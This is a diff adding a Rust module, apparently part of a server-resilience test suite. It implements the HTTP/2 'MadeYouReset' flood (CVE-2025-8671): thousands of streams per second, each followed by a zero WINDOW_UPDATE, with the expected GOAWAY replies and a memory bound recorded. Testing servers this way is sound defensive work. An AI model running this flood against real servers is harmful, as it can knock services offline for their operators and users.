@@ -1,0 +1,44 @@
+//! Streams that the server is made to reset (CVE-2025-8671, MadeYouReset).
+
+use anyhow::Result;
+
+use super::{Attack, MIB, nothing};
+use crate::frames::http2::{self, END_HEADERS, END_STREAM, HEADERS, WINDOW_UPDATE};
+use crate::judge::{Bound, Told};
+use crate::siege::{Field, Flood, flood};
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "made-resets",
+    does: "HTTP/2 streams on which a WINDOW_UPDATE of 0 makes the server send the reset",
+    rate: "5,000 streams/s",
+    told: &["GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR"],
+    bound: Bound {
+        bytes: MIB,
+        because: "http2.max_streams 256 x 4 KiB of a request = 1 MiB",
+    },
+    prepare: nothing,
+    strike,
+};
+
+fn strike(field: &Field) -> Result<Told> {
+    let block = http2::block(
+        "GET",
+        "/topics/honest/feed",
+        &[("accept", "text/event-stream")],
+    );
+    let mut piece = |n: usize| {
+        let stream = 2 * n as u32 + 1;
+        let open = http2::frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
+        [open, http2::frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
+    };
+    flood(
+        field,
+        Flood {
+            greeting: &http2::opening(&[]),
+            piece: &mut piece,
+            per_second: 5000,
+            at_most: 5000,
+            reads: true,
+        },
+    )
+}
